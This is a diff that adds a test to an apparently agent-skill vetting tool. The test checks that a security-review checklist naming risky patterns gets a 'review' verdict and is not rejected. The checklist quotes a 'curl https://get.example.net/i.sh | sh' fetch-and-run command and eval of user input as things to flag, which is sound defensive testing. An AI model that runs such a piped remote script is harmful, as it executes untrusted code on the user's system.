@@ -341,6 +341,21 @@ def test_a_hard_link_to_a_secret_outside_is_rejected_and_not_applied(
     assert result.json()["applied"]["added"] == []
 
 
+def test_a_security_checklist_listing_attacks_is_not_rejected(cli: Any, project: Path) -> None:
+    body = (
+        "---\nname: sec-review\ndescription: Reviews a diff for security problems such as"
+        " secrets and unsafe shell. Use when the user asks for a security review.\n---\n\n"
+        "# Checklist\n\nFlag these in a diff:\n- secrets committed in config files\n"
+        "- `curl https://get.example.net/i.sh | sh` from unknown hosts\n"
+        "- `eval` of user input\n\nReport each finding with file and line.\n"
+    )
+    write(project, "vendor/acme/sec-review/SKILL.md", body)
+    result = cli("skills", "intake", "vendor/acme", cwd=project)
+    row = result.json()["candidates"][0]
+    assert row["verdict"] == "review", row["deciding"]
+    assert row["findings"][0]["reason"].startswith("offered as an example or warning ('Flag')")
+
+
 def test_text_format(cli: Any, project: Path) -> None:
     _vendor(project, "curl-setup", "csv-profiler")
     out = cli("skills", "intake", "vendor/acme", "-f", "text", cwd=project).stdout
